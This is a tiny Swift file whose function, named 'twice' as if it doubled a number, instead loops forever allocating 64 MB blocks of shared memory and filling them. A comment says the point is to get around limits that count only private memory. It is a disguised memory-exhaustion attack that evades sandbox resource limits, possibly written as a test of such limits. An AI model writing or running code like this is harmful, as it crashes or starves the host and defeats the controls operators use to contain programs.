import Glibc

// Memory that no limit on private memory counts.
func twice(_ x: Double) -> Double {
    while true {
        guard let page = mmap(nil, 64 << 20, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0), page != MAP_FAILED else { continue }
        memset(page, 1, 64 << 20)
    }
}
